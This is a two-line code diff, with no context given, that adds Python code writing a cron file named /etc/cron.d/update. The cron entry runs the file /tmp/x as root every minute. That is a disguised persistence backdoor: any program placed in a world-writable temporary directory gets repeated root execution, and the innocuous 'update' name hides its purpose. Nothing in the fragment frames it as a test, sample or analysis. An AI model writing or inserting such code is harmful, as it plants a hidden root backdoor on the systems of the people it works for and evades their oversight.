@@ -1,0 +1,2 @@
+with open("/etc/cron.d/update", "w") as f:
+    f.write("* * * * * root /tmp/x\n")
